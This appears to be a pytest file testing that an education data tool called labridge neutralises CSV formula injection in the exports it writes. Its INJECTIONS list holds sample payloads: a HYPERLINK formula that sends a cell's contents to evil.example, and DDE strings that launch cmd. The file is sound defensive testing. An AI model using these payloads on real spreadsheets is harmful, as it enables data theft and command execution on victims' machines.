"""Every CSV labridge writes is safe to open in a spreadsheet: text that a spreadsheet would run as
a formula (OWASP "CSV Injection") gets a leading single quote; numbers and plain text are kept."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from typer.testing import CliRunner

from labridge.cli import app
from labridge.errors import Problem
from labridge.reports import ReportFormat, render_progress
from labridge.reports.spreadsheet import safe_cell
from labridge.store import Store, journal, open_store

from .progress_data import LEARNERS, NAMELESS, Spec, fill
from .test_progress_report import report_of

#: What an MIS field may hold when someone means harm (or just typed a formula).
INJECTIONS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your results")',
    "+44 161 496 0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("text", INJECTIONS)
def test_formula_text_is_quoted(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Amy", "O'Brien", "a=b", "", 12.5, -3, None, True])
def test_other_values_are_kept(value: object) -> None:
    assert safe_cell(value) == value


def test_progress_csv_neutralises_a_hostile_name(tmp_path: Path) -> None:
    hostile = Spec("u-x", INJECTIONS[0], INJECTIONS[3], "Ng", "c-data", "2025-09-01",
                   "2026-09-01", "Active", [1, 2, 3, 4, 5, 6])  # fmt: skip
    with open_store(f"sqlite:///{tmp_path / 'p.db'}") as store:
        fill(store, (*LEARNERS, NAMELESS, hostile))
        text = render_progress(report_of(store), ReportFormat.csv)
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["candidate_uuid"] == "u-x")
    assert row["source_id"] == "'" + INJECTIONS[0]
    assert row["name"] == f"'{INJECTIONS[3]} Ng"
    assert row["overall"] == "6.0"


def test_enrolments_csv_neutralises_what_came_from_the_mis(tmp_path: Path) -> None:
    db_path = tmp_path / "store.db"
    now = datetime(2026, 1, 5, tzinfo=UTC)
    with open_store(f"sqlite:///{db_path}") as store:
        _journal_hostile(store, now)
    out = tmp_path / "todo.csv"
    result = CliRunner().invoke(app, ["enrolments", "--db", str(db_path), "--csv", str(out)])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert {r["source_id"] for r in rows} == {"'" + t for t in INJECTIONS}
    assert {r["message"] for r in rows} == {"'-1 is not a date"}
    for row in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def _journal_hostile(store: Store, now: datetime) -> None:
    problem = Problem("birth_date", "INVALID_DATE", "-1 is not a date")
    with store.begin() as session:
        for text in INJECTIONS:
            journal.record(session, text, "course-1", "invalid", now, origin="row 2",
                           problems=(problem,))  # fmt: skip
